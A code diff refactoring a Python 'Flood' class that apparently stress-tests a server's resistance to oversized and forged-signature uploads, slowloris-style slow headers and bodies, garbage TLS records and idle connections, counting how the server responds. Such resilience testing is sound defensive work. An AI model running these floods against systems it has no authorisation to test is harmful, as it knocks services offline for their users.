@@ -84,118 +84,81 @@ class Flood:
                      f"flwr-signature: {base64.b64encode(os.urandom(96)).decode()}\r\n")
         return (head + "\r\n").encode()
 
-    def _big(self, kind: str) -> None:
+    def _loop(self, kind: str, attack: Any, tls: bool = True, retry_s: float = 0.5) -> None:
+        """Open a connection (TLS or bare TCP), count it, run ``attack(kind, sock)`` on it; again
+        until the flood ends. A connection the server drops counts as ``closed``."""
+        while not self.done.is_set():
+            try:
+                s = self._conn() if tls else self._tcp()
+            except OSError:
+                self._count(kind, "connect failed")
+                time.sleep(retry_s)
+                continue
+            self._count(kind, "connections")
+            try:
+                attack(kind, s)
+            except OSError:
+                self._count(kind, "closed")
+            finally:
+                s.close()
+
+    def _big(self, kind: str, s: socket.socket) -> None:
         payload = os.urandom(CHUNK)
-        while not self.done.is_set():
-            try:
-                s = self._conn()
-            except OSError:
-                self._count(kind, "connect failed")
-                time.sleep(0.2)
-                continue
-            self._count(kind, "connections")
-            try:
-                s.sendall(self._request_head(DECLARED, kind == "forged"))
-                sent = 0
-                s.settimeout(0.5)
-                while sent < DECLARED and not self.done.is_set():
-                    try:
-                        s.sendall(payload)
-                        sent += CHUNK
-                    except TimeoutError:
-                        break  # the server stopped reading: look for its answer
-                self._count(kind, "bytes_sent", sent)
-                s.settimeout(5)
-                self._count(kind, self._status(s))
-            except OSError:
-                self._count(kind, "closed")
-            finally:
-                s.close()
+        s.sendall(self._request_head(DECLARED, kind == "forged"))
+        sent = 0
+        s.settimeout(0.5)
+        try:
+            while sent < DECLARED and not self.done.is_set():
+                try:
+                    s.sendall(payload)
+                    sent += CHUNK
+                except TimeoutError:
+                    break  # the server stopped reading: look for its answer
+        finally:
+            self._count(kind, "bytes_sent", sent)
+        s.settimeout(5)
+        self._count(kind, self._status(s))
 
-    def _slow_headers(self, kind: str) -> None:
-        while not self.done.is_set():
-            try:
-                s = self._conn()
-            except OSError:
-                self._count(kind, "connect failed")
-                time.sleep(0.5)
-                continue
-            self._count(kind, "connections")
-            t0 = time.monotonic()
-            try:
-                for b in self._request_head(100, False):
-                    if self.done.is_set():
-                        break
-                    s.sendall(bytes([b]))
-                    time.sleep(1.0)
-                if not self.done.is_set():  # the flood's end stops a sender: that is not the server's doing
-                    self._count(kind, "finished headers (not cut off)")
-            except OSError:
-                self._count(kind, "closed")
-                self._count(kind, "held_s", int(time.monotonic() - t0))
-            finally:
-                s.close()
+    def _slow_headers(self, kind: str, s: socket.socket) -> None:
+        t0 = time.monotonic()
+        try:
+            for b in self._request_head(100, False):
+                if self.done.is_set():
+                    break
+                s.sendall(bytes([b]))
+                time.sleep(1.0)
+        except OSError:
+            self._count(kind, "held_s", int(time.monotonic() - t0))
+            raise
+        if not self.done.is_set():  # the flood's end stops a sender: that is not the server's doing
+            self._count(kind, "finished headers (not cut off)")
 
-    def _slow_body(self, kind: str) -> None:
-        while not self.done.is_set():
-            try:
-                s = self._conn()
-            except OSError:
-                self._count(kind, "connect failed")
-                time.sleep(0.5)
-                continue
-            self._count(kind, "connections")
-            try:
-                s.sendall(self._request_head(1000, True))
-                s.settimeout(3)
-                self._count(kind, self._status(s))
-            except OSError:
-                self._count(kind, "closed")
-            finally:
-                s.close()
+    def _slow_body(self, kind: str, s: socket.socket) -> None:
+        s.sendall(self._request_head(1000, True))
+        s.settimeout(3)
+        self._count(kind, self._status(s))
 
-    def _tls_garbage(self, kind: str) -> None:
-        while not self.done.is_set():
-            try:
-                s = self._tcp()
-            except OSError:
-                self._count(kind, "connect failed")
-                time.sleep(0.2)
-                continue
-            self._count(kind, "connections")
-            try:
-                s.sendall(b"\x16\x03\x01" + os.urandom(4096))
-                s.settimeout(5)
-                self._count(kind, "closed" if not s.recv(64) else "answered")
-            except OSError:
-                self._count(kind, "closed")
-            finally:
-                s.close()
+    def _tls_garbage(self, kind: str, s: socket.socket) -> None:
+        s.sendall(b"\x16\x03\x01" + os.urandom(4096))
+        s.settimeout(5)
+        self._count(kind, "closed" if not s.recv(64) else "answered")
 
-    def _idle(self, kind: str) -> None:
-        while not self.done.is_set():
-            try:
-                s = self._tcp()
-            except OSError:
-                self._count(kind, "connect failed")
-                time.sleep(0.5)
-                continue
-            self._count(kind, "connections")
-            try:
-                s.settimeout(max(0.1, self.seconds))
-                s.recv(1)  # until the server gives up on the handshake, or the flood ends
-                self._count(kind, "closed by server")
-            except OSError:
-                pass
-            finally:
-                s.close()
+    def _idle(self, kind: str, s: socket.socket) -> None:
+        s.settimeout(max(0.1, self.seconds))
+        try:
+            s.recv(1)  # until the server gives up on the handshake, or the flood ends
+            self._count(kind, "closed by server")
+        except OSError:
+            pass
 
     def start(self) -> Flood:
+        attacks = {"big": (self._big, True, 0.2), "forged": (self._big, True, 0.2),
+                   "slow_headers": (self._slow_headers, True, 0.5), "slow_body": (self._slow_body, True, 0.5),
+                   "tls_garbage": (self._tls_garbage, False, 0.2), "idle": (self._idle, False, 0.5)}
         for kind, n in self.workers.items():
-            fn = {"big": self._big, "forged": self._big, "slow_headers": self._slow_headers,
-                  "slow_body": self._slow_body, "tls_garbage": self._tls_garbage, "idle": self._idle}[kind]
+            attack, tls, retry_s = attacks[kind]
             for _ in range(n):
-                t = threading.Thread(target=fn, args=(kind,), daemon=True)
+                t = threading.Thread(target=self._loop, args=(kind, attack, tls, retry_s), daemon=True)
                 t.start()
                 self.threads.append(t)
         threading.Timer(self.seconds, self.done.set).start()
